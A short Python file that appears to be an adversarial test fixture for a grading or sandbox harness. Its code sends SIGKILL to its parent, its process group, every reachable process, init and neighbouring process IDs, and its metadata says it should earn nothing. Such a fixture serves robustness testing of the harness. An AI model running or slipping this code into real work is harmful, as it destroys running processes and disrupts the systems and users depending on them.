"""Kills its parent, its group, and every process that it may. Earns nothing."""

AT_EVERY_LEVEL = True
EARNS = ()
SAYS = ("should have shape",)

import os
import signal

for pid in (os.getppid(), 0, -1, 1, *(os.getppid() + step for step in range(-20, 20))):
    try:
        if pid != os.getpid():
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
